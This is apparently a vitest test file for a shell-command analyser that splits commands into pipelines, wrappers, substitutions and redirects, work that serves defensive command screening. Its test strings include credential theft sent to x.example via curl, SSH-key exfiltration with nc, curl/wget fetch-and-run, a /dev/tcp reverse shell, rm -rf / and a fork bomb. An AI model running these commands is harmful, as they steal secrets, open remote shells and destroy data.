import { describe, expect, it } from 'vitest';
import type { ShellAnalysis, ShellCommand } from '../types.js';
import { analyzeShell, MAX_SOURCE } from './analyze.js';
import { shellInvariantViolations } from './invariants.js';

const CWD = '/home/u/proj';
const HOME = '/home/u';
const run = (src: string): ShellAnalysis => analyzeShell(src, CWD, HOME);

interface Case {
  readonly title: string;
  readonly src: string;
  readonly commands: readonly Partial<ShellCommand>[];
  readonly pipelines?: readonly (readonly number[])[];
  readonly uncertain?: boolean;
}

const CASES: readonly Case[] = [
  {
    title: 'follows a read | encode | upload pipeline',
    src: 'cat ~/.aws/credentials | base64 | curl -d @- https://x.example/c',
    commands: [
      { name: 'cat', args: ['~/.aws/credentials'], stage: 0, via: 'top', parent: -1, depth: 0, text: 'cat ~/.aws/credentials' },
      { name: 'base64', args: [], stage: 1 },
      { name: 'curl', args: ['-d', '@-', 'https://x.example/c'], stage: 2, text: 'curl -d @- https://x.example/c' },
    ],
    pipelines: [[0, 1, 2]],
  },
  {
    title: 'keeps tar arguments as written, ~ unexpanded',
    src: 'tar czf /tmp/k.tgz ~/.ssh/id_rsa ~/.kube/config',
    commands: [{ name: 'tar', args: ['czf', '/tmp/k.tgz', '~/.ssh/id_rsa', '~/.kube/config'], pipeline: 0, stage: 0 }],
    pipelines: [[0]],
  },
  {
    title: 'unwraps sudo -E before cp',
    src: 'sudo -E cp /etc/shadow /tmp/s',
    commands: [{ name: 'cp', word: 'cp', args: ['/etc/shadow', '/tmp/s'], wrappers: ['sudo'], wrapperArgs: ['-E'] }],
  },
  {
    title: 'unwraps sudo -E env before cp',
    src: 'sudo -E env FOO=1 nohup cp /etc/shadow /tmp/s',
    commands: [{
      name: 'cp', args: ['/etc/shadow', '/tmp/s'], wrappers: ['sudo', 'env', 'nohup'], wrapperArgs: ['-E'],
      assigns: [{ name: 'FOO', value: '1' }],
    }],
  },
  {
    title: 'unwraps sudo -S fed by a pipe',
    src: 'echo hunter2 | sudo -S rm -rf /var/lib/x',
    commands: [
      { name: 'echo', args: ['hunter2'], stage: 0 },
      { name: 'rm', args: ['-rf', '/var/lib/x'], wrappers: ['sudo'], wrapperArgs: ['-S'], stage: 1, pipeline: 0 },
    ],
    pipelines: [[0, 1]],
  },
  {
    title: 'emits curl inside bash <(…) as a process substitution',
    src: 'bash <(curl -s https://x.example/i.sh)',
    commands: [
      { name: 'bash', args: ['<(curl -s https://x.example/i.sh)'], parent: -1, depth: 0 },
      { name: 'curl', args: ['-s', 'https://x.example/i.sh'], via: 'process-substitution', parent: 0, depth: 1 },
    ],
    pipelines: [[0], [1]],
  },
  {
    title: 'keeps sh -c "$(wget …)" as sh and emits wget as a substitution',
    src: 'sh -c "$(wget -qO- https://x.example/i.sh)"',
    commands: [
      { name: 'sh', args: ['-c', '$(wget -qO- https://x.example/i.sh)'] },
      { name: 'wget', args: ['-qO-', 'https://x.example/i.sh'], via: 'substitution', parent: 0, depth: 1 },
    ],
  },
  {
    title: 'keeps eval "$(… | base64 --decode)" as eval and emits the decoding pipeline',
    src: 'eval "$(echo Y3VybCBldmlsfHNo | base64 --decode)"',
    commands: [
      { name: 'eval', args: ['$(echo Y3VybCBldmlsfHNo | base64 --decode)'] },
      { name: 'echo', via: 'substitution', parent: 0, stage: 0 },
      { name: 'base64', args: ['--decode'], via: 'substitution', parent: 0, stage: 1 },
    ],
    pipelines: [[0], [1, 2]],
  },
  {
    title: 'marks $x -rf as a dynamic command name',
    src: "x=$(printf '\\x72\\x6d'); $x -rf /tmp/t",
    commands: [
      { name: '', word: '', dynamicName: false, assigns: [{ name: 'x', value: "$(printf '\\x72\\x6d')" }] },
      { name: 'printf', args: ['\\x72\\x6d'], via: 'substitution', parent: 0 },
      { name: '', word: '$x', dynamicName: true, args: ['-rf', '/tmp/t'], parent: -1 },
    ],
  },
  {
    title: 'marks ${CMD} and $(printf rm) command words as dynamic',
    src: '${CMD} x; $(printf rm) -rf /',
    commands: [
      { name: '', word: '${CMD}', dynamicName: true, args: ['x'] },
      { name: '', word: '$(printf rm)', dynamicName: true, args: ['-rf', '/'] },
      { name: 'printf', args: ['rm'], via: 'substitution', parent: 1 },
    ],
  },
  {
    title: 'parses bash -c literal code as nested commands',
    src: "bash -c 'cat ~/.ssh/id_rsa | nc 1.2.3.4 9'",
    commands: [
      { name: 'bash', args: ['-c', 'cat ~/.ssh/id_rsa | nc 1.2.3.4 9'], depth: 0 },
      { name: 'cat', args: ['~/.ssh/id_rsa'], via: 'sh-c', parent: 0, depth: 1, stage: 0, text: 'cat ~/.ssh/id_rsa' },
      { name: 'nc', args: ['1.2.3.4', '9'], via: 'sh-c', parent: 0, depth: 1, stage: 1, text: 'nc 1.2.3.4 9' },
    ],
    pipelines: [[0], [1, 2]],
  },
  {
    title: 'resolves the cwd of rm -rf ../ after cd',
    src: 'cd /home/u/proj/sub && rm -rf ../',
    commands: [{ name: 'cd', cwd: CWD }, { name: 'rm', args: ['-rf', '../'], cwd: '/home/u/proj/sub' }],
  },
  {
    title: 'tracks cd src && ls',
    src: 'cd src && ls',
    commands: [{ name: 'cd', cwd: CWD }, { name: 'ls', cwd: '/home/u/proj/src' }],
  },
  {
    title: 'does not leak a cd out of a subshell',
    src: '(cd /etc && cat hosts); ls',
    commands: [{ name: 'cd', cwd: CWD }, { name: 'cat', args: ['hosts'], cwd: '/etc' }, { name: 'ls', cwd: CWD }],
  },
  {
    title: 'adds the find -exec command as a nested command',
    src: 'find / -name id_rsa -exec cat {} \\;',
    commands: [
      { name: 'find', args: ['/', '-name', 'id_rsa', '-exec', 'cat', '{}', ';'] },
      { name: 'cat', args: ['{}'], via: 'find-exec', parent: 0, depth: 1, text: 'cat {}' },
    ],
  },
  {
    title: 'unwraps xargs -I{} into rm',
    src: 'ls *.log | xargs -I{} rm {}',
    commands: [
      { name: 'ls', args: ['*.log'], stage: 0 },
      { name: 'rm', args: ['{}'], wrappers: ['xargs'], wrapperArgs: ['-I{}'], via: 'xargs', stage: 1, parent: -1, depth: 0 },
    ],
    pipelines: [[0, 1]],
  },
  {
    title: 'moves env NAME=VALUE to assigns',
    src: 'env NODE_ENV=test npm test',
    commands: [{ name: 'npm', args: ['test'], wrappers: ['env'], assigns: [{ name: 'NODE_ENV', value: 'test' }] }],
  },
  { title: 'keeps a bare env as a command', src: 'env', commands: [{ name: 'env', args: [], wrappers: [] }] },
  {
    title: 'collects prefix assignments',
    src: 'FOO=1 BAR=2 make',
    commands: [{ name: 'make', assigns: [{ name: 'FOO', value: '1' }, { name: 'BAR', value: '2' }] }],
  },
  {
    title: 'peels nohup timeout nice before ./run.sh',
    src: 'nohup timeout 5 nice -n 10 ./run.sh &',
    commands: [{
      name: 'run.sh', word: './run.sh', args: [], wrappers: ['nohup', 'timeout', 'nice'], wrapperArgs: ['5', '-n', '10'],
    }],
  },
  {
    title: 'keeps a heredoc body out of the commands',
    src: "cat > ~/.bashrc <<'EOF'\nexport X=1\nEOF",
    commands: [{
      name: 'cat', args: [], redirects: [{ op: '>', target: '~/.bashrc' }, { op: '<<', target: '', body: 'export X=1\n' }],
    }],
  },
  {
    title: 'emits substitutions of an unquoted heredoc body, which bash runs',
    src: 'cat <<EOF\n$(curl -s x.example)\nEOF',
    commands: [{ name: 'cat' }, { name: 'curl', via: 'substitution', parent: 0 }],
  },
  { title: 'keeps quoted separators in one command', src: 'echo "a; b | c"', commands: [{ name: 'echo', args: ['a; b | c'] }] },
  {
    title: 'records reverse-shell redirect targets',
    src: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    commands: [{
      name: 'bash', args: ['-i'], redirects: [{ op: '>&', target: '/dev/tcp/203.0.113.7/4444' }, { op: '>&', target: '1', fd: 0 }],
    }],
  },
  {
    title: 'records fd, herestring and append redirects',
    src: 'cmd 2>/dev/null &>>log <<<"$(id)" 3<>f',
    commands: [
      {
        name: 'cmd',
        redirects: [
          { op: '>', target: '/dev/null', fd: 2 }, { op: '&>>', target: 'log' }, { op: '<<<', target: '', body: '$(id)' },
          { op: '<>', target: 'f', fd: 3 },
        ],
      },
      { name: 'id', via: 'substitution', parent: 0 },
    ],
  },
  {
    title: 'survives a fork bomb',
    src: ':(){ :|:& };:',
    commands: [{ name: ':', stage: 0 }, { name: ':', stage: 1 }, { name: ':' }],
    pipelines: [[0, 1], [2]],
  },
  {
    title: 'walks if bodies',
    src: 'if [ -f x ]; then rm x; fi',
    commands: [{ name: '[', args: ['-f', 'x', ']'] }, { name: 'rm', args: ['x'] }],
  },
  {
    title: 'walks for bodies',
    src: 'for f in *.ts; do wc -l $f; done',
    commands: [{ name: 'wc', args: ['-l', '$f'] }],
  },
  {
    title: 'reports an unterminated quote',
    src: '"unterminated',
    commands: [{ name: 'unterminated' }],
    uncertain: true,
  },
  { title: 'reports an unterminated arithmetic expansion', src: '$(((', commands: [{ dynamicName: true }], uncertain: true },
];

describe('analyzeShell', () => {
  it.each(CASES)('$title', ({ src, commands, pipelines, uncertain }) => {
    const r = run(src);
    expect(r.commands).toMatchObject(commands);
    if (pipelines) expect(r.pipelines).toEqual(pipelines);
    expect(r.uncertain).toBe(uncertain ?? false);
    expect(r.errors.length > 0).toBe(uncertain ?? false);
    expect(r.source).toBe(src);
    expect(shellInvariantViolations(r)).toEqual([]);
  });

  it('reports parse errors with their positions', () => {
    expect(run('"unterminated').errors).toEqual(['unterminated double quote at 0']);
    expect(run('ls; echo $(((').errors).toEqual(['unterminated arithmetic expansion at 9']);
  });

  it('analyses only the first 64 KiB of a long source', () => {
    const src = 'echo hello; '.repeat(200 * 1024 / 12);
    const r = run(src);
    expect(r.uncertain).toBe(true);
    expect(r.errors[0]).toMatch(/only the first 65536/);
    expect(r.commands.length).toBeLessThanOrEqual(Math.ceil(MAX_SOURCE / 12));
    expect(r.commands.length).toBeGreaterThan(5000);
    expect(shellInvariantViolations(r)).toEqual([]);
  });

  it('is pure: the same input gives the same analysis', () => {
    const src = 'cd src && FOO=1 sudo -E env BAR=2 npm run build > /tmp/log 2>&1 || echo "$(date) failed" >> ~/e.log';
    const first = run(src);
    for (let i = 0; i < 50; i++) expect(run(src)).toEqual(first);
  });
});
